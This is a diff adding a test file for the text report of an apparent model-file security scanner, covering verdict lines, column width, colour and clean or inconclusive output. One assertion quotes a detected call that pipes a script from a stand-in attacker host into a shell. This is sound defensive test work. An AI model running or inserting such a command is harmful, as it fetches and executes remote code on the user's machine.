@@ -1,0 +1,94 @@
+import type { Report } from '@sentrascan/contract';
+import { describe, expect, it } from 'vitest';
+import { displayWidth } from '../paint.ts';
+import type { RenderOptions } from '../report-format.ts';
+import { SAMPLE_REPORT, SAMPLE_RULES } from '../sample-report.ts';
+import { reportFormat } from './text.ts';
+
+function lines(report: Report, options: Partial<RenderOptions> = {}): string[] {
+  return [...reportFormat.render(report, { rules: SAMPLE_RULES, ...options })].join('').trimEnd().split('\n');
+}
+
+const CLEAN: Report = {
+  ...SAMPLE_REPORT,
+  verdict: 'clean',
+  artifacts: [],
+  findings: [],
+  gaps: [],
+  summary: {
+    artifacts: 1,
+    bytesTotal: 1536,
+    bytesRead: 1536,
+    findings: { critical: 0, high: 0, medium: 0, low: 0 },
+    gaps: 0,
+    waived: 0,
+  },
+};
+
+describe('the text report', () => {
+  it('starts with the verdict and says what not to do', () => {
+    const [first] = lines(SAMPLE_REPORT);
+    expect(first).toMatch(
+      /^MALICIOUS {2}Do not load models\/model\.pt!archive\/data\.pkl: loading this file starts a program\./,
+    );
+  });
+
+  it('shows the call in Python form and what to do', () => {
+    const text = lines(SAMPLE_REPORT).join('\n');
+    expect(text).toContain("call    os.system('curl -s https://evil.example/x.sh | sh')");
+    expect(text).toContain('do      Ask the author for safetensors.');
+  });
+
+  it('fits a screen', () => {
+    expect(lines(SAMPLE_REPORT).length).toBeLessThan(50);
+  });
+
+  it.each([60, 80, 100, 140])('keeps to %d columns', (widthCharacters) => {
+    for (const line of lines(SAMPLE_REPORT, { widthCharacters })) {
+      expect(displayWidth(line), line).toBeLessThanOrEqual(widthCharacters);
+    }
+  });
+
+  it('counts what it does not draw', () => {
+    const text = lines(SAMPLE_REPORT, { maxFindings: 1 }).join('\n');
+    expect(text).toContain('and 3 more, medium or below');
+    expect(text).toContain('sentrascan scan --all');
+    expect(text).not.toContain('pickle/unknown-callable');
+  });
+
+  it('has colour only when asked, and the same words then', () => {
+    const plain = lines(SAMPLE_REPORT).join('\n');
+    const colored = lines(SAMPLE_REPORT, { color: true }).join('\n');
+    expect(plain).not.toContain('\x1b');
+    expect(colored).toContain('\x1b[');
+    const words = (text: string) =>
+      text
+        .replaceAll(/\x1b\[[0-9;]*m/g, '')
+        .split(/\s+/)
+        .join(' ')
+        .trim();
+    expect(words(colored)).toBe(words(plain));
+  });
+
+  it('says little when there is little to say', () => {
+    expect(lines(CLEAN)).toEqual([
+      'CLEAN  Everything was read and judged; nothing was found.',
+      '1 artifact · 1.5 KiB read · no findings',
+    ]);
+  });
+
+  it('never calls an unread part clean', () => {
+    const gaps = SAMPLE_REPORT.gaps;
+    const report = {
+      ...CLEAN,
+      verdict: 'inconclusive',
+      gaps,
+      summary: { ...CLEAN.summary, gaps: gaps.length },
+    } as const;
+    const text = lines(report).join('\n');
+    expect(text).toMatch(
+      /^INCONCLUSIVE {2}Nothing dangerous in what was read, but 4 parts could not be read/,
+    );
+    expect(text).toContain('2 limit');
+  });
+});
